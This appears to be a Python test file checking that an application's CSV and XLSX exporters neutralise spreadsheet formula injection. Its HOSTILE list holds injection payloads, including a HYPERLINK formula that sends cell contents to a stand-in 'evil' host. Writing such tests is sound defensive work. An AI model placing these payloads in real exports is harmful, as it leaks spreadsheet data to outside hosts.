"""Every CSV and XLSX writer neutralises cells a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import uuid
from pathlib import Path

import openpyxl
import pytest

from app import storage
from app.ai import batch
from app.mail.bulk import OUTCOMES_FILE, Outcome, write_outcomes
from app.office import excel
from app.office.outputs import OutputFolder
from app.reports.cells import FORMULA_PREFIXES, neutralise

HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_the_neutraliser_escapes_every_formula_prefix(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert {"\t", "\r", "=", "+", "-", "@"} <= set(FORMULA_PREFIXES)


def test_the_ai_batch_csv_and_xlsx_escape_tab_and_carriage_return(tmp_path: Path) -> None:
    items = batch.items_from_prompts(["a"] * len(HOSTILE))
    for item, answer in zip(items, HOSTILE):
        item.ok, item.answer = True, answer
    batch.write_csv(items, tmp_path / "r.csv")
    batch.write_xlsx(items, tmp_path / "r.xlsx")
    with open(tmp_path / "r.csv", newline="", encoding="utf-8-sig") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["answer"] for r in rows] == ["'" + a for a in HOSTILE]
    sheet = openpyxl.load_workbook(tmp_path / "r.xlsx").active
    answers = [sheet.cell(row=i, column=4) for i in range(2, len(HOSTILE) + 2)]
    assert [c.value for c in answers] == ["'" + a for a in HOSTILE]
    assert all(c.data_type == "s" for c in answers)


def _workbook_with(path: Path, values: list[str]) -> Path:
    book = openpyxl.Workbook()
    book.active.title = "Links"
    book.active.append(["label", "note"])
    for value in values:
        book.active.append([value, "ok"])
    for row in book.active.iter_rows(min_row=2):
        row[0].data_type = "s"  # stored as text, as a hostile upload would
    book.save(path)
    return path


def test_excel_to_csv_escapes_text_that_looks_like_a_formula(tmp_path: Path) -> None:
    source = _workbook_with(tmp_path / "links.xlsx", HOSTILE)
    out = OutputFolder(tmp_path / "out")
    excel.process(source, ["convert", "calculate"], out, {"formats": ["csv"], "group_by": "label"})
    with open(out.folder / "links-Links.csv", newline="") as handle:
        rows = list(csv.reader(handle))
    assert [r[0] for r in rows[1:]] == ["'" + v for v in HOSTILE]
    with open(next(out.folder.glob("links-Links-by-*.csv")), newline="") as handle:
        grouped = list(csv.reader(handle))
    assert sorted(r[0] for r in grouped[1:]) == sorted("'" + v for v in HOSTILE)


def test_bulk_email_outcomes_escape_the_rejected_value() -> None:
    job_id = f"f-{uuid.uuid4().hex[:12]}"
    write_outcomes(job_id, [
        Outcome(row=2, email='=HYPERLINK("http://evil")', status="skipped",
                reason='"=HYPERLINK("http://evil")" is not an email address.'),
        Outcome(row=3, email="ann@example.com", status="sent", message_id="<m@x>"),
    ])
    text = (storage.outputs_dir(job_id) / OUTCOMES_FILE).read_text()
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][1] == "'=HYPERLINK(\"http://evil\")"
    assert rows[2] == ["3", "ann@example.com", "sent", "", "<m@x>"]
